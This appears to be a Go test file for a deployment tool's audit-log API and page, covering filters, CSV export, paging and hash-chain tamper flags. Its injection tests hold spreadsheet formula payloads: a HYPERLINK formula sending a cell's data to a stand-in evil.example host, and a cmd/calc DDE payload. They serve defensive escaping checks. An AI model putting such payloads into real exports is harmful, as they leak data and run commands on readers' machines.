package handlers

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/hanzoai/deploy-web/audit"
)

func TestParseAuditRequest(t *testing.T) {
	day := time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)
	tests := []struct {
		query   string
		want    audit.Filter
		format  string
		wantErr string
	}{
		{query: "", want: audit.Filter{}},
		{query: "actor=Alice@Example.com&verb=rollback&env=staging&app=web&namespace=apps&cluster=eu-1&outcome=refused&limit=10&continue=tok&format=csv",
			want:   audit.Filter{Actor: "Alice@Example.com", Verb: audit.VerbRollback, Environment: "staging", App: "web", Namespace: "apps", Cluster: "eu-1", Outcome: audit.OutcomeRefused, Limit: 10, Continue: "tok"},
			format: "csv"},
		{query: "since=2026-12-01&until=2026-12-01", want: audit.Filter{Since: day, Until: day.Add(24*time.Hour - time.Nanosecond)}},
		{query: "since=2026-12-01T10:00&until=2026-12-01T10:00", want: audit.Filter{Since: day.Add(10 * time.Hour), Until: day.Add(10*time.Hour + time.Minute - time.Nanosecond)}},
		{query: "since=2026-12-01T10:00:00%2B02:00", want: audit.Filter{Since: day.Add(8 * time.Hour)}},
		{query: "verb=delete-everything", wantErr: "verb: \"delete-everything\" is not one of apply, restore"},
		{query: "outcome=ok", wantErr: "outcome: \"ok\" is not one of succeeded, failed, refused"},
		{query: "since=yesterday", wantErr: "since: \"yesterday\" is not a time"},
		{query: "since=2026-12-02&until=2026-12-01", wantErr: "until: 2026-12-01 is before since 2026-12-02"},
		{query: "limit=0", wantErr: "limit: \"0\" is not between 1 and 500"},
		{query: "limit=501", wantErr: "limit: \"501\" is not between 1 and 500"},
		{query: "format=xml", wantErr: "format: \"xml\" is not json or csv"},
		{query: "actor=" + strings.Repeat("a", 254), wantErr: "actor: at most 253 bytes"},
	}
	for _, tt := range tests {
		t.Run(tt.query, func(t *testing.T) {
			v, err := url.ParseQuery(tt.query)
			if err != nil {
				t.Fatal(err)
			}
			got, err := parseAuditRequest(v)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.(*httpError).Public, tt.wantErr) {
					t.Errorf("parseAuditRequest(%s) error = %v, want %q", tt.query, err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatalf("parseAuditRequest(%s) error = %v", tt.query, err)
			}
			if diff := cmp.Diff(tt.want, got.filter); diff != "" {
				t.Errorf("parseAuditRequest(%s) filter mismatch (-want +got):\n%s", tt.query, diff)
			}
			if got.format != tt.format {
				t.Errorf("parseAuditRequest(%s) format = %q, want %q", tt.query, got.format, tt.format)
			}
		})
	}
}

func TestCSVCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"alice@example.com", "alice@example.com"},
		{"=HYPERLINK(\"http://evil\")", "'=HYPERLINK(\"http://evil\")"},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
	} {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// auditFixture stores four records: an apply of staging (failed), a
// rollback and a sync of apps/web by bob, and a refused apply of prod.
func auditFixture(t *testing.T) (*testServer, *audit.Store, []audit.Record) {
	t.Helper()
	store, _ := newTestAudit(t)
	alice := audit.Actor{Email: "alice@example.com", Subject: "u-alice", Groups: []string{"platform"}}
	bob := audit.Actor{Email: "bob@example.com", Subject: "u-bob"}
	recs := []audit.Record{
		appendTest(t, store, audit.Record{Time: testNow.Add(-4 * time.Hour), Actor: alice, Verb: audit.VerbApply, Cluster: "eu-1", Environment: "staging",
			Commit: "0123456789abcdef0123456789abcdef01234567", RenderedDigest: "sha256:" + strings.Repeat("a", 64), Outcome: audit.OutcomeFailed,
			Message: "health check api failed", Objects: []audit.Object{{Version: "v1", Kind: "ConfigMap", Namespace: "staging", Name: "settings"}}}),
		appendTest(t, store, audit.Record{Time: testNow.Add(-3 * time.Hour), Actor: bob, Verb: audit.VerbRollback, Cluster: "eu-1", Namespace: "apps", App: "web", Message: "rolled back from 1.2.0 to 1.1.0"}),
		appendTest(t, store, audit.Record{Time: testNow.Add(-2 * time.Hour), Actor: bob, Verb: audit.VerbSync, Cluster: "eu-1", Namespace: "apps", App: "web"}),
		appendTest(t, store, audit.Record{Time: testNow.Add(-1 * time.Hour), Actor: alice, Verb: audit.VerbApply, Cluster: "eu-1", Environment: "prod",
			Outcome: audit.OutcomeRefused, Message: "the environment is protected", Blockers: []string{"image-not-in-catalog"}}),
	}
	return newTestServer(t, newFakeView(nil), withAudit(store)), store, recs
}

func decodePage(t *testing.T, w *httptest.ResponseRecorder) audit.Page {
	t.Helper()
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", w.Code, w.Body)
	}
	var p audit.Page
	if err := json.Unmarshal(w.Body.Bytes(), &p); err != nil {
		t.Fatalf("decode %s: %v", w.Body, err)
	}
	return p
}

func pageIDs(p audit.Page) []string {
	var ids []string
	for _, r := range p.Records {
		ids = append(ids, r.ID)
	}
	return ids
}

func TestAPIAudit(t *testing.T) {
	ts, _, recs := auditFixture(t)
	id := func(i ...int) []string {
		var out []string
		for _, j := range i {
			out = append(out, recs[j].ID)
		}
		return out
	}
	for _, tt := range []struct {
		query string
		want  []string
	}{
		{"", id(3, 2, 1, 0)},
		{"actor=BOB@example.com", id(2, 1)},
		{"verb=apply", id(3, 0)},
		{"env=staging", id(0)},
		{"app=web&verb=sync", id(2)},
		{"outcome=refused", id(3)},
		{"cluster=eu-2", nil},
		{"since=" + url.QueryEscape(testNow.Add(-150*time.Minute).Format(time.RFC3339)) + "&until=" + url.QueryEscape(testNow.Add(-90*time.Minute).Format(time.RFC3339)), id(2)},
	} {
		p := decodePage(t, ts.get(t, "/v1/deploy/audit?"+tt.query, nil))
		if diff := cmp.Diff(tt.want, pageIDs(p)); diff != "" {
			t.Errorf("GET /v1/deploy/audit?%s ids mismatch (-want +got):\n%s", tt.query, diff)
		}
	}

	// The JSON shape of a record: the fields, chain{prev, ok}.
	w := ts.get(t, "/v1/deploy/audit?env=staging", nil)
	var raw struct {
		Records []map[string]any `json:"records"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &raw); err != nil || len(raw.Records) != 1 {
		t.Fatalf("GET env=staging = %s, %v; want one record", w.Body, err)
	}
	for _, k := range []string{"id", "time", "actor", "verb", "cluster", "environment", "app", "commit", "renderedDigest", "outcome", "blockers", "objects", "chain"} {
		if _, ok := raw.Records[0][k]; !ok {
			t.Errorf("record JSON lacks %q: %v", k, raw.Records[0])
		}
	}
	if chain, _ := raw.Records[0]["chain"].(map[string]any); chain["ok"] != true {
		t.Errorf("record chain = %v, want ok true", raw.Records[0]["chain"])
	}

	// Paging: limit and continue walk every record once, newest first.
	var walked []string
	next := "/v1/deploy/audit?limit=3"
	for next != "" {
		p := decodePage(t, ts.get(t, next, nil))
		walked = append(walked, pageIDs(p)...)
		next = ""
		if p.Continue != "" {
			next = "/v1/deploy/audit?limit=3&continue=" + url.QueryEscape(p.Continue)
		}
	}
	if diff := cmp.Diff(id(3, 2, 1, 0), walked); diff != "" {
		t.Errorf("paging ids mismatch (-want +got):\n%s", diff)
	}
	for target, want := range map[string]int{
		"/v1/deploy/audit?continue=not-a-token": http.StatusBadRequest,
		"/v1/deploy/audit?verb=nope":            http.StatusBadRequest,
		"/v1/deploy/audit?format=xml":           http.StatusBadRequest,
	} {
		if w := ts.get(t, target, nil); w.Code != want {
			t.Errorf("GET %s: status = %d, want %d", target, w.Code, want)
		}
	}

	// An environment's history: its records only.
	p := decodePage(t, ts.get(t, "/v1/deploy/environments/prod/history", nil))
	if diff := cmp.Diff(id(3), pageIDs(p)); diff != "" {
		t.Errorf("prod's history mismatch (-want +got):\n%s", diff)
	}
}

func TestAPIAuditCSV(t *testing.T) {
	ts, _, recs := auditFixture(t)
	w := ts.get(t, "/v1/deploy/audit?actor=alice@example.com&format=csv", nil)
	if w.Code != http.StatusOK || !strings.HasPrefix(w.Header().Get("Content-Type"), "text/csv") {
		t.Fatalf("GET csv: status = %d, Content-Type %q", w.Code, w.Header().Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Fatalf("csv = %d rows, want a header and alice's 2 records:\n%s", len(rows), w.Body)
	}
	if diff := cmp.Diff(auditCSVHeader, rows[0]); diff != "" {
		t.Errorf("csv header mismatch (-want +got):\n%s", diff)
	}
	col := func(name string) int {
		for i, h := range rows[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	want := [][]string{
		{recs[3].ID, "alice@example.com", "apply", "prod", "refused", "image-not-in-catalog", "true"},
		{recs[0].ID, "alice@example.com", "apply", "staging", "failed", "", "true"},
	}
	for i, w := range want {
		r := rows[i+1]
		got := []string{r[col("id")], r[col("actor_email")], r[col("verb")], r[col("environment")], r[col("outcome")], r[col("blockers")], r[col("chain_ok")]}
		if diff := cmp.Diff(w, got); diff != "" {
			t.Errorf("csv row %d mismatch (-want +got):\n%s", i+1, diff)
		}
	}
	// With a limit, one page: the next page's token in a header.
	w = ts.get(t, "/v1/deploy/audit?format=csv&limit=1", nil)
	if w.Header().Get("Audit-Continue") == "" {
		t.Errorf("GET csv limit=1: no Audit-Continue header, want the next page's token")
	}
	if rows, _ := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll(); len(rows) != 2 {
		t.Errorf("GET csv limit=1: %d rows, want a header and 1 record", len(rows))
	}
	// Without, every record the filter selects.
	w = ts.get(t, "/v1/deploy/audit?format=csv", nil)
	if rows, _ := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll(); len(rows) != 5 || w.Header().Get("Audit-Continue") != "" {
		t.Errorf("GET csv: %d rows (Audit-Continue %q), want a header and all 4 records", len(rows), w.Header().Get("Audit-Continue"))
	}
}

// TestExportAudit: an export walks the pages from its token and stops at
// its bound, with the token of the rest.
func TestExportAudit(t *testing.T) {
	_, store, recs := auditFixture(t)
	for _, tt := range []struct {
		pageSize, most int
		want           []string
		more           bool
	}{
		{1, 10, []string{recs[3].ID, recs[2].ID, recs[1].ID, recs[0].ID}, false},
		{3, 10, []string{recs[3].ID, recs[2].ID, recs[1].ID, recs[0].ID}, false},
		{1, 3, []string{recs[3].ID, recs[2].ID, recs[1].ID}, true},
		{2, 3, []string{recs[3].ID, recs[2].ID, recs[1].ID}, true},
	} {
		p, err := exportAudit(t.Context(), store, audit.Filter{}, tt.pageSize, tt.most)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(tt.want, pageIDs(p)); diff != "" || (p.Continue != "") != tt.more {
			t.Errorf("exportAudit(page %d, most %d) = %v (continue %q), want %v (more %v)", tt.pageSize, tt.most, pageIDs(p), p.Continue, tt.want, tt.more)
		}
		if tt.more {
			rest, err := exportAudit(t.Context(), store, audit.Filter{Continue: p.Continue}, tt.pageSize, tt.most)
			if err != nil || len(rest.Records) != 1 || rest.Records[0].ID != recs[0].ID {
				t.Errorf("exportAudit from the token = %v, %v; want the oldest record", pageIDs(rest), err)
			}
		}
	}
}

// TestAuditPage: the filters come back in the form (bookmarkable), the
// rows are the filtered records, the exports carry the filters, and an
// HTMX request gets the results fragment alone.
func TestAuditPage(t *testing.T) {
	ts, _, recs := auditFixture(t)
	w := ts.get(t, "/audit?actor=bob@example.com&verb=rollback", nil)
	if w.Code != http.StatusOK {
		t.Fatalf("GET /audit: status = %d, body %s", w.Code, w.Body)
	}
	doc := parseHTML(t, w.Body.String())
	rows := byTestID(doc, "audit-row")
	if len(rows) != 1 || attr(rows[0], "data-id") != recs[1].ID {
		t.Fatalf("GET /audit?actor=bob&verb=rollback: %d rows, want bob's rollback %s", len(rows), recs[1].ID)
	}
	for id, want := range map[string]string{"audit-actor": "bob@example.com", "audit-verb": "rollback", "audit-target": "apps/web", "audit-outcome": "succeeded"} {
		if got := strings.TrimSpace(text(oneByTestID(t, rows[0], id))); got != want {
			t.Errorf("row %s = %q, want %q", id, got, want)
		}
	}
	if got := attr(oneByTestID(t, doc, "filter-actor"), "value"); got != "bob@example.com" {
		t.Errorf("actor filter = %q, want the query's", got)
	}
	csvURL, _ := url.Parse(attr(oneByTestID(t, doc, "audit-csv"), "href"))
	if csvURL.Path != "/v1/deploy/audit" || csvURL.Query().Get("format") != "csv" || csvURL.Query().Get("actor") != "bob@example.com" || csvURL.Query().Get("verb") != "rollback" {
		t.Errorf("CSV link = %s, want the API with the page's filters and format=csv", csvURL)
	}
	if n := len(byTestID(doc, "chain-broken")); n != 0 {
		t.Errorf("%d chain-broken flags on untouched records, want 0", n)
	}

	// HTMX: the fragment, and a 204 refresh while nothing changed.
	w = ts.get(t, "/audit?verb=apply", htmxHeader)
	frag := w.Body.String()
	if strings.Contains(frag, "<html") || !strings.Contains(frag, `id="audit-results"`) {
		t.Fatalf("HTMX GET /audit: want the results fragment alone, got %.200s", frag)
	}
	poll := attr(oneByTestID(t, parseHTML(t, frag), "audit-results"), "hx-get")
	if w := ts.get(t, poll, htmxHeader); w.Code != http.StatusNoContent {
		t.Errorf("HTMX refresh %s with nothing new: status = %d, want 204", poll, w.Code)
	}

	// Paging: the next page link.
	doc = parseHTML(t, ts.get(t, "/audit?limit=2", nil).Body.String())
	next := attr(oneByTestID(t, doc, "audit-next"), "href")
	doc = parseHTML(t, ts.get(t, next, nil).Body.String())
	var ids []string
	for _, r := range byTestID(doc, "audit-row") {
		ids = append(ids, attr(r, "data-id"))
	}
	if diff := cmp.Diff([]string{recs[1].ID, recs[0].ID}, ids); diff != "" {
		t.Errorf("second page ids mismatch (-want +got):\n%s", diff)
	}
	if len(byTestID(doc, "audit-first")) != 1 {
		t.Errorf("second page: no link back to the newest records")
	}

	if w := ts.get(t, "/audit?since=tomorrow", nil); w.Code != http.StatusBadRequest {
		t.Errorf("GET /audit?since=tomorrow: status = %d, want 400", w.Code)
	}
}

// TestAuditTamperedRecordFlagged: a record edited behind the store's back
// (as kubectl edit would) reads chain.ok false in the JSON and is flagged
// on /audit.
func TestAuditTamperedRecordFlagged(t *testing.T) {
	store, cs := newTestAudit(t)
	ts := newTestServer(t, newFakeView(nil), withAudit(store))
	first := appendTest(t, store, audit.Record{Time: testNow.Add(-time.Hour), Actor: audit.Actor{Email: "alice@example.com"}, Verb: audit.VerbApply, Cluster: "eu-1", Environment: "staging", Outcome: audit.OutcomeFailed})
	second := appendTest(t, store, audit.Record{Actor: audit.Actor{Email: "alice@example.com"}, Verb: audit.VerbApply, Cluster: "eu-1", Environment: "staging"})
	third := appendTest(t, store, audit.Record{Actor: audit.Actor{Email: "alice@example.com"}, Verb: audit.VerbSync, Cluster: "eu-1", Namespace: "apps", App: "web"})
	tamper(t, cs, first.ID)

	// The edited record and its successor are flagged (its hash no
	// longer matches the one the successor carries); another stream is not.
	want := map[string]bool{first.ID: true, second.ID: true, third.ID: false}
	w := ts.get(t, "/v1/deploy/audit", nil)
	var raw struct {
		Records []struct {
			ID    string `json:"id"`
			Chain struct {
				OK     bool   `json:"ok"`
				Reason string `json:"reason"`
			} `json:"chain"`
		} `json:"records"`
	}
	if err := json.Unmarshal(w.Body.Bytes(), &raw); err != nil {
		t.Fatal(err)
	}
	broken := map[string]bool{}
	for _, r := range raw.Records {
		broken[r.ID] = !r.Chain.OK
		if !r.Chain.OK && !strings.Contains(r.Chain.Reason, first.ID) {
			t.Errorf("record %s chain reason = %q, want it naming the edited record %s", r.ID, r.Chain.Reason, first.ID)
		}
	}
	if diff := cmp.Diff(want, broken); diff != "" {
		t.Errorf("chain.ok false in the JSON mismatch (-want +got):\n%s", diff)
	}
	doc := parseHTML(t, ts.get(t, "/audit", nil).Body.String())
	if n := len(byTestID(doc, "audit-row")); n != 3 {
		t.Fatalf("/audit: %d rows, want 3", n)
	}
	for _, r := range byTestID(doc, "audit-row") {
		flagged := len(byTestID(r, "chain-broken")) == 1
		if flagged != broken[attr(r, "data-id")] {
			t.Errorf("row %s flagged = %v, want %v (the JSON's chain.ok false)", attr(r, "data-id"), flagged, broken[attr(r, "data-id")])
		}
		if flagged && !strings.Contains(text(oneByTestID(t, r, "chain-reason")), first.ID) {
			t.Errorf("row %s: the flag's reason does not name the edited record", attr(r, "data-id"))
		}
	}
}

// TestAuditInjection: hostile text in a record (an actor email, an App
// name, a message, a blocker) comes back escaped on /audit and on the
// App's and environment's history, and CSV-safe in the export.
func TestAuditInjection(t *testing.T) {
	store, _ := newTestAudit(t)
	ts := newTestServer(t, newFakeView(nil), withAudit(store))
	for _, payload := range injectionPayloads {
		appendTest(t, store, audit.Record{Actor: audit.Actor{Email: payload, Subject: payload}, Verb: audit.VerbRollback, Cluster: "eu-1",
			Namespace: "apps", App: payload, Outcome: audit.OutcomeRefused, Message: payload, Blockers: []string{payload}})
	}
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	appendTest(t, store, audit.Record{Actor: audit.Actor{Email: formula}, Verb: audit.VerbSync, Cluster: "eu-1", Namespace: "apps", App: "+cmd|' /C calc'!A0", Message: "@SUM(1)"})

	body := ts.get(t, "/audit", nil).Body.String()
	for _, payload := range injectionPayloads {
		assertInert(t, "/audit", body, payload)
	}
	w := ts.get(t, "/v1/deploy/audit?format=csv", nil)
	rows, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("csv cell %s = %q: a spreadsheet reads it as a formula", rows[0][i], cell)
			}
		}
	}
	if !strings.Contains(w.Body.String(), `'=HYPERLINK(`) || !strings.Contains(w.Body.String(), `'+cmd|`) || !strings.Contains(w.Body.String(), `'@SUM(1)`) {
		t.Errorf("csv = %s, want the formulas kept as quoted text", w.Body)
	}
}

// TestAuditVerbFilterLabels: /audit's verb filter has one option per
// verb, valued by the verb and labelled in words; a record's break-glass
// reason shows on its row and in the CSV.
func TestAuditVerbFilterLabels(t *testing.T) {
	store, _ := newTestAudit(t)
	ts := newTestServer(t, newFakeView(nil), withAudit(store))
	rec := appendTest(t, store, audit.Record{Actor: audit.Actor{Email: "alice@example.com"}, Verb: audit.VerbPromote, Cluster: "eu-1",
		Environment: "staging", BreakGlass: "hotfix INC-42 <b>"})
	doc := parseHTML(t, ts.get(t, "/audit?verb=promote", nil).Body.String())
	got := map[string]string{}
	for _, o := range byTestID(doc, "filter-verb-option") {
		got[attr(o, "value")] = strings.TrimSpace(text(o))
	}
	want := map[string]string{}
	for _, v := range audit.Verbs() {
		want[string(v)] = v.Label()
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("verb filter options mismatch (-want +got):\n%s", diff)
	}
	rows := byTestID(doc, "audit-row")
	if len(rows) != 1 || attr(rows[0], "data-id") != rec.ID {
		t.Fatalf("GET /audit?verb=promote: %d rows, want the promotion %s", len(rows), rec.ID)
	}
	if g := text(oneByTestID(t, rows[0], "audit-break-glass")); !strings.Contains(g, "hotfix INC-42 <b>") {
		t.Errorf("break-glass cell = %q, want the reason as text", g)
	}
	w := ts.get(t, "/v1/deploy/audit?format=csv", nil)
	rows2, err := csv.NewReader(strings.NewReader(w.Body.String())).ReadAll()
	if err != nil || len(rows2) != 2 {
		t.Fatalf("CSV = %d rows, %v; want a header and one record", len(rows2), err)
	}
	col := slices.Index(rows2[0], "break_glass")
	if col < 0 || rows2[1][col] != "hotfix INC-42 <b>" {
		t.Errorf("CSV break_glass column %d of %v, want the reason", col, rows2[1])
	}
}
